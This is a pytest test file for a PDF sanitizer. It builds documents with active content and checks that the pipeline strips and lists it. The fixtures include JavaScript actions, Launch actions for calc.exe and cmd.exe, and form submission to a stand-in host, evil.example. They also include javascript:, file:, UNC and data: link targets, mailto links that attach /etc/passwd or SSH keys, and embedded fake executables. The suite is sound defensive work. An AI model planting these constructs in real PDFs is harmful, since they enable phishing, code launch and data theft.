"""The PDF allow-list: every kind of active content goes, inert content stays, all is listed.

Each construct is a small builder that adds one thing to a document. The regression test puts
every builder into ONE document, runs the pipeline, and walks every object of the re-opened
``sanitized.pdf`` with a checker written apart from the pipeline (``tests/pdfcheck.py``: its own
vocabularies, its own notion of where actions and annotations are), so a gap in the walker shows
up as a finding here.
"""

from __future__ import annotations

import io
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pikepdf
import pypdfium2 as pdfium
import pytest
from pikepdf import Array, Dictionary, Name, String

from tests.pdfcheck import findings, strings_and_streams
from workers.pipelines.base import PipelineResult
from workers.pipelines.pdf import PdfLimits, process_pdf
from workers.pipelines.pdfactive import classify_uri, strip_active_content

Builder = Callable[[pikepdf.Pdf], None]
Check = Callable[[pikepdf.Pdf], bool]

MARKER = "PWNED-7f3a"  # in every script, so the bytes of sanitized.pdf can be searched for it
REMOTE = "evil.example"  # in every remote target
PAGE_TEXTS = ("Quarterly report", "Second page")

# --- building blocks ----------------------------------------------------------------------------


def _new_document() -> pikepdf.Pdf:
    pdf = pikepdf.new()
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    for text in PAGE_TEXTS:
        page = pdf.add_blank_page(page_size=(612, 792))
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(f"BT /F1 24 Tf 72 700 Td ({text}) Tj ET".encode())
    return pdf


def _js(tag: str) -> Dictionary:
    script = String(f"app.alert('{MARKER} {tag}')")
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=script)


def _action(kind: str, **entries: Any) -> Dictionary:
    return Dictionary(S=Name(kind), **entries)


def _uri(target: bytes | str) -> Dictionary:
    return Dictionary(S=Name.URI, URI=String(target))


def _url_filespec(url: str) -> Dictionary:
    return Dictionary(Type=Name.Filespec, FS=Name.URL, F=String(url))


def _annots(pdf: pikepdf.Pdf, page: int = 0) -> pikepdf.Array:
    obj = pdf.pages[page].obj
    if "/Annots" not in obj:
        obj.Annots = Array()
    return obj.Annots


def _add_annot(pdf: pikepdf.Pdf, subtype: str | None, **entries: Any) -> pikepdf.Dictionary:
    annot = Dictionary(Type=Name.Annot, Rect=Array([72, 72, 144, 108]), **entries)
    if subtype is not None:
        annot.Subtype = Name(subtype)
    annot = pdf.make_indirect(annot)
    _annots(pdf).append(annot)
    return annot


def _link(action: Callable[[], Dictionary]) -> Builder:
    """A builder adding a link that runs a fresh ``action()``."""

    def build(pdf: pikepdf.Pdf) -> None:
        _add_annot(pdf, "/Link", A=action())

    return build


def _names(pdf: pikepdf.Pdf) -> pikepdf.Dictionary:
    if "/Names" not in pdf.Root:
        pdf.Root.Names = Dictionary()
    return pdf.Root.Names


def _acroform(pdf: pikepdf.Pdf) -> pikepdf.Dictionary:
    if "/AcroForm" not in pdf.Root:
        pdf.Root.AcroForm = Dictionary(Fields=Array())
    return pdf.Root.AcroForm


def _embedded_filespec(pdf: pikepdf.Pdf, name: str) -> pikepdf.Dictionary:
    payload = pdf.make_stream(f"MZ {MARKER} {name}".encode())
    payload.Type = Name.EmbeddedFile
    return pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String(name), UF=String(name), EF=Dictionary(F=payload)))


def _page_ref(pdf: pikepdf.Pdf, index: int) -> Array:
    return Array([pdf.pages[index].obj, Name.Fit])


# --- hostile constructs: builder and the exact labels it must produce --------------------------


def open_action_js_then_launch(pdf: pikepdf.Pdf) -> None:
    action = _js("open")
    action.Next = _action("/Launch", F=String("calc.exe"))
    pdf.Root.OpenAction = action


def catalog_aa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AA = Dictionary(WC=_js("will close"))


def page_aa(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=_js("page open"))


def names_javascript(pdf: pikepdf.Pdf) -> None:
    _names(pdf).JavaScript = Dictionary(Names=Array([String("init"), _js("doc-level")]))


def names_embedded_files(pdf: pikepdf.Pdf) -> None:
    spec = _embedded_filespec(pdf, "invoice.exe")
    _names(pdf).EmbeddedFiles = Dictionary(Names=Array([String("invoice.exe"), spec]))


def names_alternate_presentations(pdf: pikepdf.Pdf) -> None:
    _names(pdf).AlternatePresentations = Dictionary(Names=Array([String("show"), Dictionary(
        Type=Name.SlideShow, Subtype=Name.Embedded, Resources=Dictionary())]))


def catalog_uri_base(pdf: pikepdf.Pdf) -> None:
    pdf.Root.URI = Dictionary(Base=String(f"file://{REMOTE}/share/"))


def catalog_collection(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Collection = Dictionary(Type=Name.Collection, View=Name.D)


def acroform_xfa(pdf: pikepdf.Pdf) -> None:
    form = _acroform(pdf)
    form.XFA = pdf.make_stream(f"<xdp:xdp><script>{MARKER}</script></xdp:xdp>".encode())
    pdf.Root.NeedsRendering = True


def form_field_with_kids(pdf: pikepdf.Pdf) -> None:
    """A text field with keystroke JavaScript and a widget kid whose button action submits the
    form to a remote address, then imports data."""
    field = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("amount"),
                                         AA=Dictionary(K=_js("keystroke")), Kids=Array()))
    submit = _action("/SubmitForm", F=_url_filespec(f"https://{REMOTE}/collect"))
    submit.Next = _action("/ImportData", F=String("data.fdf"))
    widget = _add_annot(pdf, "/Widget", Parent=field, A=submit, V=String("42"))
    field.Kids.append(widget)
    _acroform(pdf).Fields.append(field)


def reset_button(pdf: pikepdf.Pdf) -> None:
    button = _add_annot(pdf, "/Widget", FT=Name.Btn, T=String("reset"), A=_action("/ResetForm"))
    _acroform(pdf).Fields.append(button)


def outline_tree(pdf: pikepdf.Pdf) -> None:
    """Outline items nested two deep, each with an action; the GoTo and Named ones stay."""
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines))
    first = pdf.make_indirect(Dictionary(Title=String("Go"), Parent=outlines,
                                         A=_action("/GoTo", D=_page_ref(pdf, 1))))
    second = pdf.make_indirect(Dictionary(Title=String("Remote"), Parent=outlines, Prev=first,
                                          A=_action("/GoToR", F=String(f"//{REMOTE}/x.pdf"),
                                                    D=Array([0, Name.Fit]))))
    chain = _action("/Named", N=Name.NextPage)
    chain.Next = Array([_action("/Launch", F=String("cmd.exe")),
                        _action("/GoTo", D=_page_ref(pdf, 0))])
    child = pdf.make_indirect(Dictionary(Title=String("Child"), Parent=second, A=chain))
    second.First = second.Last = child
    second.Count = 1
    first.Next = second
    outlines.First, outlines.Last, outlines.Count = first, second, 2
    pdf.Root.Outlines = outlines


def annotation_3d(pdf: pikepdf.Pdf) -> None:
    script = pdf.make_stream(f"host.alert('{MARKER} 3d');".encode())
    scene = pdf.make_stream(b"U3D\x00 pretend scene", Type=Name("/3D"), Subtype=Name.U3D,
                            OnInstantiate=script)
    annot = _add_annot(pdf, "/3D")
    annot[Name("/3DD")] = scene
    annot[Name("/3DA")] = Dictionary(A=Name.PO)


def screen_with_rendition(pdf: pikepdf.Pdf) -> None:
    clip = Dictionary(Type=Name.MediaClip, S=Name.MCD,
                      D=_url_filespec(f"http://{REMOTE}/clip.mp4"))
    rendition = Dictionary(Type=Name.Rendition, S=Name.MR, C=clip)
    screen = _add_annot(pdf, "/Screen", A=_action(
        "/Rendition", OP=0, R=rendition, JS=String(f"{MARKER} rendition")))
    _add_annot(pdf, "/Link", A=_action("/Rendition", OP=0, AN=screen, R=rendition))


def movie_annotation(pdf: pikepdf.Pdf) -> None:
    movie = Dictionary(F=_url_filespec(f"http://{REMOTE}/movie.mov"))
    _add_annot(pdf, "/Movie", Movie=movie, A=True)


def sound_annotation(pdf: pikepdf.Pdf) -> None:
    sound = pdf.make_stream(b"\x00" * 16, Type=Name.Sound, R=8000)
    _add_annot(pdf, "/Sound", Sound=sound)


def file_attachment(pdf: pikepdf.Pdf) -> None:
    _add_annot(pdf, "/FileAttachment", FS=_embedded_filespec(pdf, "payload.exe"))


def rich_media(pdf: pikepdf.Pdf) -> None:
    content = Dictionary(Type=Name.RichMediaContent, Assets=Dictionary(
        Names=Array([String("a.swf"), _embedded_filespec(pdf, "a.swf")])))
    _add_annot(pdf, "/RichMedia", RichMediaContent=content,
               RichMediaSettings=Dictionary(Type=Name.RichMediaSettings))


def watermark(pdf: pikepdf.Pdf) -> None:
    _add_annot(pdf, "/Watermark")


def unknown_subtype(pdf: pikepdf.Pdf) -> None:
    _add_annot(pdf, "/EvilPlayer")


def no_subtype(pdf: pikepdf.Pdf) -> None:
    _add_annot(pdf, None, A=_uri("https://example.com/no-subtype"))


def associated_file(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AF = Array([_embedded_filespec(pdf, "attached.bin")])


def postscript_xobject(pdf: pikepdf.Pdf) -> None:
    ps = pdf.make_stream(f"%!PS {MARKER}".encode(), Type=Name.XObject, Subtype=Name.PS)
    pdf.pages[0].obj.Resources.XObject = Dictionary(P0=ps)


def action_zoo_behind_a_link(pdf: pikepdf.Pdf) -> None:
    """An https link whose /Next chain runs every other action type: the link stays, alone."""
    head = _uri("https://example.com/chain")
    head.Next = Array([
        _action("/Hide", T=String("field")), _action("/SetOCGState", State=Array()),
        _action("/Trans", Trans=Dictionary(S=Name.Dissolve)), _action("/GoTo3DView", V=0),
        _action("/Sound", Sound=Name.Null), _action("/Movie", T=String("m")),
        _action("/RichMediaExecute", TI=Name.Null), _action("/GoToDp", Dp=Name.Null),
        _action("/GoToE", T=Dictionary(R=Name.C, N=String("x.pdf"))),
        _action("/Thread", F=_url_filespec(f"http://{REMOTE}/threads.pdf"), D=0),
        _action("/EvilAction"), _js("in a chain"),
    ])
    _add_annot(pdf, "/Link", A=head)


def deep_nesting(pdf: pikepdf.Pdf) -> None:
    node = Dictionary(A=_js("deep"))
    for _ in range(40):  # PDFium refuses files nested deeper than 64; the walker has no limit
        node = Dictionary(Wrap=node)
    pdf.Root.Deep = node


def link_pa(pdf: pikepdf.Pdf) -> None:
    _add_annot(pdf, "/Link", A=_action("/GoTo", D=_page_ref(pdf, 1)),
               PA=_uri("javascript:alert(document.domain)"))


def navigation_node(pdf: pikepdf.Pdf) -> None:
    """Sub-page navigation (presentation steps): actions run on next and previous."""
    pdf.pages[0].obj.PresSteps = Dictionary(
        Type=Name.NavNode, NA=_js("next step"), PA=_action("/Launch", F=String("calc.exe")))


HOSTILE: list[tuple[str, Builder, list[str]]] = [
    ("open_action_js_then_launch", open_action_js_then_launch,
     ["action:JavaScript", "action:Launch", "trigger:OpenAction"]),
    ("catalog_aa", catalog_aa, ["action:JavaScript", "trigger:AA"]),
    ("page_aa", page_aa, ["action:JavaScript", "trigger:AA"]),
    ("names_javascript", names_javascript, ["names:JavaScript"]),
    ("names_embedded_files", names_embedded_files, ["names:EmbeddedFiles"]),
    ("names_alternate_presentations", names_alternate_presentations,
     ["names:AlternatePresentations"]),
    ("catalog_uri_base", catalog_uri_base, ["catalog:URI"]),
    ("catalog_collection", catalog_collection, ["catalog:Collection"]),
    ("acroform_xfa", acroform_xfa, ["form:XFA"]),
    ("form_field_with_kids", form_field_with_kids,
     ["action:ImportData", "action:JavaScript", "action:SubmitForm", "trigger:AA"]),
    ("reset_button", reset_button, ["action:ResetForm"]),
    ("outline_tree", outline_tree, ["action:GoToR", "action:Launch"]),
    ("annotation_3d", annotation_3d, ["annotation:3D", "script:OnInstantiate"]),
    ("screen_with_rendition", screen_with_rendition, ["action:Rendition", "annotation:Screen"]),
    ("movie_annotation", movie_annotation, ["annotation:Movie"]),
    ("sound_annotation", sound_annotation, ["annotation:Sound"]),
    ("file_attachment", file_attachment, ["annotation:FileAttachment"]),
    ("rich_media", rich_media, ["annotation:RichMedia"]),
    ("watermark", watermark, ["annotation:Watermark"]),
    ("unknown_subtype", unknown_subtype, ["annotation:other"]),
    ("no_subtype", no_subtype, ["annotation:none"]),
    ("associated_file", associated_file, ["file:embedded"]),
    ("postscript_xobject", postscript_xobject, ["xobject:PS"]),
    ("action_zoo_behind_a_link", action_zoo_behind_a_link, [
        "action:GoTo3DView", "action:GoToDp", "action:GoToE", "action:Hide", "action:JavaScript",
        "action:Movie", "action:RichMediaExecute", "action:SetOCGState", "action:Sound",
        "action:Thread", "action:Trans", "action:other"]),
    ("deep_nesting", deep_nesting, ["action:JavaScript"]),
    ("link_pa_javascript", link_pa, ["action:URI(javascript)"]),
    ("navigation_node", navigation_node, ["action:JavaScript", "action:Launch"]),
    ("uri_javascript", _link(lambda: _uri("javascript:app.alert(1)")), ["action:URI(javascript)"]),
    ("uri_javascript_case_and_space", _link(lambda: _uri(" \x00\t JaVaScRiPt:alert(2)")),
     ["action:URI(javascript)"]),
    ("uri_tab_inside_scheme", _link(lambda: _uri("java\tscript:alert(3)")),
     ["action:URI(invalid)"]),
    ("uri_utf16", _link(lambda: _uri("\ufeffjavascript:alert(4)".encode("utf-16-be"))),
     ["action:URI(javascript)"]),
    ("uri_file", _link(lambda: _uri("file:///etc/passwd")), ["action:URI(file)"]),
    ("uri_unc_backslashes", _link(lambda: _uri(f"\\\\{REMOTE}\\share\\x.exe")),
     ["action:URI(unc)"]),
    ("uri_unc_slashes", _link(lambda: _uri(f"//{REMOTE}/share/x.exe")), ["action:URI(unc)"]),
    ("uri_relative", _link(lambda: _uri("page2.html")), ["action:URI(relative)"]),
    ("uri_data", _link(lambda: _uri("data:text/html,<script>alert(5)</script>")),
     ["action:URI(data)"]),
    ("uri_not_a_string", _link(lambda: Dictionary(S=Name.URI, URI=Name("/javascript:x"))),
     ["action:URI(invalid)"]),
    ("thread_remote",
     _link(lambda: _action("/Thread", F=_url_filespec(f"http://{REMOTE}/t.pdf"), D=0)),
     ["action:Thread"]),
    ("uri_mailto_attach", _link(lambda: _uri("mailto:a@example.com?attach=/etc/passwd")),
     ["action:URI(mailto-attach)"]),
    ("launch", _link(lambda: _action("/Launch", F=String("calc.exe"))), ["action:Launch"]),
    ("named_print", _link(lambda: _action("/Named", N=Name.Print)), ["action:Named"]),
]

EVERYTHING_REMOVED = [
    "action:GoTo3DView", "action:GoToDp", "action:GoToE", "action:GoToR", "action:Hide",
    "action:ImportData", "action:JavaScript", "action:Launch", "action:Movie", "action:Named",
    "action:Rendition", "action:ResetForm", "action:RichMediaExecute", "action:SetOCGState",
    "action:Sound", "action:SubmitForm", "action:Thread", "action:Trans", "action:URI(data)",
    "action:URI(file)", "action:URI(invalid)", "action:URI(javascript)",
    "action:URI(mailto-attach)", "action:URI(relative)", "action:URI(unc)", "action:other", "annotation:3D", "annotation:FileAttachment",
    "annotation:Movie", "annotation:RichMedia", "annotation:Screen", "annotation:Sound",
    "annotation:Watermark", "annotation:none", "annotation:other", "catalog:Collection",
    "catalog:URI", "file:embedded", "form:XFA", "names:AlternatePresentations",
    "names:EmbeddedFiles", "names:JavaScript", "script:OnInstantiate", "trigger:AA",
    "trigger:OpenAction", "xobject:PS",
]

# --- inert constructs: builder and how to see that it survived ----------------------------


def _link_uris(pdf: pikepdf.Pdf) -> list[str]:
    return [str(a.A.URI) for page in pdf.pages for a in page.obj.get("/Annots", [])
            if "/A" in a and a.A.get("/S") == Name.URI]


def _subtypes(pdf: pikepdf.Pdf) -> list[str]:
    return [str(a.get("/Subtype")) for page in pdf.pages for a in page.obj.get("/Annots", [])]


def goto_link(pdf: pikepdf.Pdf) -> None:
    _add_annot(pdf, "/Link", A=_action("/GoTo", D=_page_ref(pdf, 1)))


def dest_link(pdf: pikepdf.Pdf) -> None:
    _names(pdf).Dests = Dictionary(Names=Array([String("chapter2"), _page_ref(pdf, 1)]))
    _add_annot(pdf, "/Link", Dest=String("chapter2"), BS=Dictionary(S=Name.D, W=1))


def markup(pdf: pikepdf.Pdf) -> None:
    text = _add_annot(pdf, "/Text", Contents=String("a note"))
    text.Popup = _add_annot(pdf, "/Popup", Parent=text)
    for subtype in ("/FreeText", "/Highlight", "/Ink", "/Stamp", "/Square", "/Caret"):
        _add_annot(pdf, subtype, Contents=String(subtype))


def plain_widget(pdf: pikepdf.Pdf) -> None:
    field = _add_annot(pdf, "/Widget", FT=Name.Tx, T=String("name"), V=String("Ada"))
    _acroform(pdf).Fields.append(field)


def open_at_page_two(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = _action("/GoTo", D=_page_ref(pdf, 1))


def outline_goto(pdf: pikepdf.Pdf) -> None:
    item = pdf.make_indirect(Dictionary(Title=String("Two"), A=_action("/Named", N=Name.LastPage)))
    pdf.Root.Outlines = Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1)


def page_transition(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.Trans = Dictionary(Type=Name.Trans, S=Name.Dissolve, D=1)


INERT: list[tuple[str, Builder, Check]] = [
    ("https", _link(lambda: _uri("https://example.com/")),
     lambda p: _link_uris(p) == ["https://example.com/"]),
    ("http", _link(lambda: _uri("http://example.org/x?y=1#z")),
     lambda p: _link_uris(p) == ["http://example.org/x?y=1#z"]),
    ("mailto", _link(lambda: _uri("MAILTO:team@example.com")),
     lambda p: _link_uris(p) == ["MAILTO:team@example.com"]),
    ("https_padded_is_normalized", _link(lambda: _uri(" \t https://example.net/padded \r\n")),
     lambda p: _link_uris(p) == ["https://example.net/padded"]),
    ("goto_link", goto_link, lambda p: p.pages[0].Annots[0].A.S == Name.GoTo),
    ("dest_link", dest_link,
     lambda p: "/Dests" in p.Root.Names and p.pages[0].Annots[0].Dest == "chapter2"),
    ("named_next_page", _link(lambda: _action("/Named", N=Name.NextPage)),
     lambda p: p.pages[0].Annots[0].A.N == Name.NextPage),
    ("markup", markup, lambda p: _subtypes(p) == [
        "/Text", "/Popup", "/FreeText", "/Highlight", "/Ink", "/Stamp", "/Square", "/Caret"]),
    ("plain_widget", plain_widget,
     lambda p: _subtypes(p) == ["/Widget"] and p.Root.AcroForm.Fields[0].V == "Ada"),
    ("open_at_page_two", open_at_page_two, lambda p: p.Root.OpenAction.S == Name.GoTo),
    ("open_at_destination", lambda pdf: setattr(pdf.Root, "OpenAction", _page_ref(pdf, 1)),
     lambda p: isinstance(p.Root.OpenAction, pikepdf.Array)),
    ("outline_named", outline_goto, lambda p: p.Root.Outlines.First.A.N == Name.LastPage),
    ("page_transition", page_transition, lambda p: p.pages[0].Trans.S == Name.Dissolve),
]


# --- running ----------------------------------------------------------------------------------


def _bytes(pdf: pikepdf.Pdf) -> bytes:
    buf = io.BytesIO()
    pdf.save(buf)
    return buf.getvalue()


def _build(*builders: Builder) -> bytes:
    pdf = _new_document()
    for build in builders:
        build(pdf)
    return _bytes(pdf)


def _process(tmp_path: Path, data: bytes) -> PipelineResult:
    src = tmp_path / "upload.pdf"
    src.write_bytes(data)
    return process_pdf(src, tmp_path / "out", PdfLimits(), time.monotonic() + 60)


def _sanitized(result: PipelineResult) -> Path:
    return next(a.path for a in result.artifacts if a.name == "sanitized.pdf")


def _page_texts(path: Path) -> list[str]:
    document = pdfium.PdfDocument(path)
    try:
        return [document[i].get_textpage().get_text_range().strip() for i in range(len(document))]
    finally:
        document.close()


def test_the_everything_document_really_carries_every_construct() -> None:
    with pikepdf.open(io.BytesIO(_build(*(b for _, b, _ in HOSTILE)))) as pdf:
        found = " | ".join(findings(pdf))
    for expected in (
        "action /JavaScript in /OpenAction", "key /AA", "key /JavaScript", "key /EmbeddedFiles",
        "key /XFA", "key /OnInstantiate", "key /EF", "key /URI (base)", "key /Collection",
        "annotation /3D", "annotation /Screen", "annotation /Movie", "annotation /Sound",
        "annotation /FileAttachment", "annotation /RichMedia", "annotation /EvilPlayer",
        "annotation none", "action /Rendition", "action /Thread", "action /Launch",
        "action /GoToR", "action /SubmitForm", "action /ImportData", "action /ResetForm",
        "uri b'javascript:", "uri b'file:", "uri b'\\\\\\\\evil", "uri b'//evil",
        "name tree /AlternatePresentations", "PostScript XObject", "type /EmbeddedFile",
    ):
        assert expected in found, expected


def test_one_document_with_every_construct_comes_out_inert(tmp_path: Path) -> None:
    # the ones that would replace a hostile OpenAction or outline tree are run on their own
    inert = [build for name, build, _ in INERT
             if name not in {"open_at_page_two", "open_at_destination", "outline_named"}]
    data = _build(*(b for _, b, _ in HOSTILE), *inert)

    result = _process(tmp_path, data)

    assert result.info["removed"] == EVERYTHING_REMOVED
    assert sorted({label for _, _, labels in HOSTILE for label in labels}) == EVERYTHING_REMOVED
    assert result.info["pages"] == 2
    sanitized = _sanitized(result)
    with pikepdf.open(sanitized) as pdf:
        assert findings(pdf) == []
        assert len(pdf.pages) == 2
        uris = _link_uris(pdf)
        subtypes = _subtypes(pdf)
        assert pdf.Root.Outlines.First.A.S == Name.GoTo  # the GoTo outline item kept its action
        child = pdf.Root.Outlines.First.Next.First.A  # Named → [Launch, GoTo]: Launch went
        assert (child.N, [a.S for a in child.Next]) == (Name.NextPage, [Name.GoTo])
        assert "/A" not in pdf.Root.Outlines.First.Next  # the GoToR item stays, actionless
        assert pdf.Root.AcroForm.Fields[0].Kids[0].V == "42"  # the widget stays, actionless
        hidden = strings_and_streams(pdf)
    assert sorted(uris) == sorted([
        "https://example.com/", "http://example.org/x?y=1#z", "MAILTO:team@example.com",
        "https://example.net/padded", "https://example.com/chain"])
    assert set(subtypes) == {"/Link", "/Text", "/Popup", "/FreeText", "/Highlight", "/Ink",
                             "/Stamp", "/Square", "/Caret", "/Widget"}
    raw = sanitized.read_bytes()
    for marker in (MARKER.encode(), REMOTE.encode(), b"calc.exe", b"cmd.exe", b"MZ "):
        assert marker not in raw and marker not in hidden, marker
    assert _page_texts(sanitized) == list(PAGE_TEXTS)


@pytest.mark.parametrize(("build", "expected"), [(b, e) for _, b, e in HOSTILE],
                         ids=[name for name, _, _ in HOSTILE])
def test_each_construct_is_removed_and_listed(
        tmp_path: Path, build: Builder, expected: list[str]) -> None:
    result = _process(tmp_path, _build(build))

    assert result.info["removed"] == expected
    with pikepdf.open(_sanitized(result)) as pdf:
        assert findings(pdf) == []
        assert len(pdf.pages) == 2
    assert _page_texts(_sanitized(result)) == list(PAGE_TEXTS)


@pytest.mark.parametrize(("build", "survived"), [(b, c) for _, b, c in INERT],
                         ids=[name for name, _, _ in INERT])
def test_inert_content_survives_untouched(
        tmp_path: Path, build: Builder, survived: Check) -> None:
    result = _process(tmp_path, _build(build))

    assert result.info["removed"] == []
    with pikepdf.open(_sanitized(result)) as pdf:
        assert findings(pdf) == []
        assert survived(pdf)


@pytest.mark.parametrize(("target", "verdict"), [
    (b"https://example.com/", (None, "https://example.com/")),
    (b"HTTP://EXAMPLE.COM", (None, "HTTP://EXAMPLE.COM")),
    (b"mailto:a@example.com?subject=x", (None, "mailto:a@example.com?subject=x")),
    (b"\x00 \t https://example.com/ \n\x7f", ("invalid", "")),  # DEL is not stripped
    (b"\x00 \t https://example.com/ \n", (None, "https://example.com/")),
    (b"http:\\\\example.com", (None, "http:\\\\example.com")),  # still http in a browser
    (b"javascript:alert(1)", ("javascript", "")),
    (b"JAVASCRIPT:alert(1)", ("javascript", "")),
    (b"\x01\x02javascript:alert(1)", ("javascript", "")),
    (b"java\nscript:alert(1)", ("invalid", "")),
    (b"java\x00script:alert(1)", ("invalid", "")),
    (b"https://ex\xe4mple.com/", ("invalid", "")),  # URIs are 7-bit ASCII in PDF
    ("\ufeffJavaScript:x".encode("utf-16-be"), ("javascript", "")),
    (b"\xff\xfe" + "javascript:x".encode("utf-16-le"), ("javascript", "")),
    (b"\xef\xbb\xbfjavascript:x", ("javascript", "")),
    (b"\xfe\xff\xd8\x00", ("invalid", "")),  # a lone surrogate
    (b"mailto:a@example.com?attach=/etc/passwd", ("mailto-attach", "")),
    (b"mailto:a@example.com?subject=x&%41ttachment=~/.ssh/id_rsa", ("mailto-attach", "")),
    (b"mailto:a@example.com?subject=attached", (None, "mailto:a@example.com?subject=attached")),
    (b"vbscript:msgbox", ("vbscript", "")),
    (b"data:text/html;base64,PHNjcmlwdD4=", ("data", "")),
    (b"file:///C:/Windows/System32/calc.exe", ("file", "")),
    (b"FILE://host/share", ("file", "")),
    (b"ftp://example.com/", ("ftp", "")),
    (b"smb://host/share", ("smb", "")),
    (b"ms-msdt:/id", ("other", "")),
    (b"C:\\Windows\\calc.exe", ("other", "")),  # a drive letter reads as a scheme
    (b"\\\\host\\share", ("unc", "")),
    (b"//host/share", ("unc", "")),
    (b"/\\host/share", ("unc", "")),
    (b"\\/host/share", ("unc", "")),
    (b"page.html", ("relative", "")),
    (b"/etc/passwd", ("relative", "")),
    (b"java%73cript:alert(1)", ("relative", "")),  # not a scheme: resolved against /Base
    (b"&#106;avascript:alert(1)", ("relative", "")),
    (b"", ("invalid", "")),
    (b"   ", ("invalid", "")),
])
def test_uri_targets(target: bytes, verdict: tuple[str | None, str]) -> None:
    assert classify_uri(String(target)) == verdict


def test_non_string_uri_is_invalid() -> None:
    assert classify_uri(Name("/https://example.com"))[0] == "invalid"
    assert classify_uri(None)[0] == "invalid"


def _saved_findings(pdf: pikepdf.Pdf) -> list[str]:
    """Findings in the file as saved (an in-memory document still lists what was unlinked)."""
    with pikepdf.open(io.BytesIO(_bytes(pdf))) as saved:
        return findings(saved)


def test_an_action_shared_by_the_open_action_and_a_link_stays_only_in_the_link() -> None:
    pdf = _new_document()
    visit = pdf.make_indirect(_uri("https://example.com/beacon"))
    pdf.Root.OpenAction = visit  # fetched on open: a web beacon
    _add_annot(pdf, "/Link", A=visit)

    assert strip_active_content(pdf) == {"trigger:OpenAction"}
    assert "/OpenAction" not in pdf.Root
    assert _link_uris(pdf) == ["https://example.com/beacon"]
    assert _saved_findings(pdf) == []


def test_open_action_chain_keeps_its_navigation_and_loses_the_rest() -> None:
    pdf = _new_document()
    head = _action("/GoTo", D=_page_ref(pdf, 1))
    head.Next = Array([_uri("https://example.com/beacon"), _js("x"),
                       _action("/Named", N=Name.FirstPage)])
    pdf.Root.OpenAction = head

    assert strip_active_content(pdf) == {"action:JavaScript", "trigger:OpenAction"}
    assert pdf.Root.OpenAction.S == Name.GoTo
    assert [a.S for a in pdf.Root.OpenAction.Next] == [Name.Named]
    assert _saved_findings(pdf) == []


def test_cyclic_action_chains_end() -> None:
    pdf = _new_document()
    first = pdf.make_indirect(_action("/GoTo", D=_page_ref(pdf, 1)))
    second = pdf.make_indirect(_js("loop"))
    first.Next, second.Next = second, first
    _add_annot(pdf, "/Link", A=first)

    assert strip_active_content(pdf) == {"action:JavaScript"}
    kept = pdf.pages[0].Annots[0].A
    assert kept.S == Name.GoTo and "/Next" not in kept
    assert _saved_findings(pdf) == []


def test_a_hidden_reference_cannot_spare_the_name_dictionary() -> None:
    """The catalog's /Names, reached first from somewhere else, is still judged as /Names."""
    pdf = _new_document()
    names_javascript(pdf)
    names_alternate_presentations(pdf)
    pdf.Root.Names = pdf.make_indirect(pdf.Root.Names)
    pdf.trailer.Decoy = Dictionary(Hidden=pdf.Root.Names)  # walked before the catalog

    assert strip_active_content(pdf) == {"names:AlternatePresentations", "names:JavaScript"}
    assert _saved_findings(pdf) == []


def test_structure_and_border_styles_named_like_actions_are_not_touched() -> None:
    """``/S`` also names a structure element's role and a border style: not actions."""
    pdf = _new_document()
    element = Dictionary(Type=Name.StructElem, S=Name.Link, P=Name.Null, K=Array())
    pdf.Root.StructTreeRoot = Dictionary(Type=Name.StructTreeRoot, K=element)
    _add_annot(pdf, "/Link", Dest=_page_ref(pdf, 1), BS=Dictionary(S=Name.S))

    assert strip_active_content(pdf) == set()
    assert pdf.Root.StructTreeRoot.K.S == Name.Link


def test_a_page_or_catalog_dressed_as_an_action_is_not_unlinked(tmp_path: Path) -> None:
    """A stray ``/S /JavaScript`` on the skeleton must not drop pages or the catalog; the
    script itself still goes."""
    pdf = _new_document()
    for node in (pdf.Root, pdf.pages[1].obj):
        node.S = Name.JavaScript
        node.JS = String(f"{MARKER} skeleton")
    pdf.pages[0].obj.Subtype = Name("/3D")

    result = _process(tmp_path, _bytes(pdf))

    assert result.info["removed"] == ["script:JS"]
    assert _page_texts(_sanitized(result)) == list(PAGE_TEXTS)
    assert MARKER.encode() not in _sanitized(result).read_bytes()


def test_many_annotations_are_walked_in_one_pass(tmp_path: Path) -> None:
    pdf = _new_document()
    for index in range(5000):
        _add_annot(pdf, "/Link", A=_uri(f"javascript:alert({index})" if index % 2
                                        else f"https://example.com/{index}"))
    data = _bytes(pdf)

    started = time.monotonic()
    result = _process(tmp_path, data)
    elapsed = time.monotonic() - started

    assert result.info["removed"] == ["action:URI(javascript)"]
    with pikepdf.open(_sanitized(result)) as pdf:
        assert len(_link_uris(pdf)) == 2500
    assert elapsed < 30, elapsed  # ~1 s on an idle machine; a loose guard against blow-ups


def test_a_chain_shared_by_many_links_is_judged_and_written_once(tmp_path: Path) -> None:
    """1,000 links share one 1,000-action chain with a script in the middle: the chain is
    trimmed in place, not copied per link (which would write a million actions)."""
    pdf = _new_document()
    chain = [pdf.make_indirect(_action("/GoTo", D=_page_ref(pdf, 1))) for _ in range(1000)]
    chain[500] = pdf.make_indirect(_js("middle"))
    for action, after in zip(chain, chain[1:]):
        action.Next = after
    for _ in range(1000):
        _add_annot(pdf, "/Link", A=chain[0])
    data = _bytes(pdf)

    result = _process(tmp_path, data)

    assert result.info["removed"] == ["action:JavaScript"]
    assert _sanitized(result).stat().st_size < len(data)
    with pikepdf.open(_sanitized(result)) as clean:
        assert findings(clean) == []
        kept, node = 1, clean.pages[0].Annots[0].A
        while "/Next" in node:
            kept, node = kept + 1, node.Next
    assert kept == 500  # the GoTo actions before the script; it took the rest with it
